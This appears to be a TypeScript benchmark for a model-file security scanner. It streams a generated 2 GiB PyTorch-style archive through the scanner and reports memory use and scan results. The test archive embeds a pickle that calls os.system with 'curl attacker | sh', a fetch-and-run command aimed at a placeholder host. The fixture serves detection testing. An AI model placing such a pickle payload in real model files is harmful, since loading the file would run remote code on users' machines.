// Memory and time of the streaming scan on a generated 2 GiB model.tar.gz (a PyTorch archive whose data.pkl calls
// os.system, then 2 GiB of tensor bytes), produced on the fly and never held whole:
//   npm run bench:model-files            (ARTIFACT_MIB=2048 MEMBER_PREFIX_MIB=64 by default)
import { Readable } from "node:stream";
import { createGzip } from "node:zlib";
import { scanArtifactStream } from "../../../src/supply-chain/model-files/stream.js";
import { stackGlobalCall } from "./fixtures.js";

const MIB = 1024 * 1024;
const artifactMib = Number(process.env["ARTIFACT_MIB"] ?? 2048);
const prefixMib = Number(process.env["MEMBER_PREFIX_MIB"] ?? 64);

function localHeader(name: string, size: number): Buffer {
  const header = Buffer.alloc(30);
  header.writeUInt32LE(0x04034b50, 0);
  header.writeUInt16LE(20, 4);
  header.writeUInt32LE(size, 18);
  header.writeUInt32LE(size, 22);
  header.writeUInt16LE(Buffer.byteLength(name), 26);
  return Buffer.concat([header, Buffer.from(name)]);
}

function tarHeader(name: string, size: number): Buffer {
  const header = Buffer.alloc(512);
  header.write(name, 0, "latin1");
  header.write(size.toString(8).padStart(11, "0") + "\0", 124, "latin1");
  header.write("0", 156, "latin1");
  header.write("ustar\u000000", 257, "latin1");
  return header;
}

async function* artifact(): AsyncGenerator<Buffer> {
  const pickle = Buffer.from(stackGlobalCall("os", "system", "curl attacker | sh"));
  const tensorBytes = artifactMib * MIB;
  const head = Buffer.concat([
    localHeader("archive/data.pkl", pickle.length),
    pickle,
    localHeader("archive/data/0", tensorBytes),
  ]);
  const memberSize = head.length + tensorBytes;
  yield tarHeader("model.bin", memberSize);
  yield head;
  const zeros = Buffer.alloc(MIB);
  for (let i = 0; i < artifactMib; i += 1) yield zeros;
  yield Buffer.alloc((512 - (memberSize % 512)) % 512);
  yield Buffer.alloc(1024);
}

let peak = 0;
const sampler = setInterval(() => (peak = Math.max(peak, process.memoryUsage().rss)), 50);
const started = performance.now();
const gzipped = Readable.from(artifact()).pipe(createGzip({ level: 1 }));
const scan = await scanArtifactStream("model.tar.gz", gzipped, { memberPrefixBytes: prefixMib * MIB });
clearInterval(sampler);
peak = Math.max(peak, process.memoryUsage().rss);
console.log(
  JSON.stringify({
    artifactMib,
    memberPrefixMib: prefixMib,
    seconds: Number(((performance.now() - started) / 1000).toFixed(1)),
    bytesRead: scan.bytesRead,
    peakRssMib: Math.round(peak / MIB),
    severity: scan.severity,
    files: scan.files.map((f) => `${f.path} ${f.risk}`),
    notes: scan.notes,
  }),
);
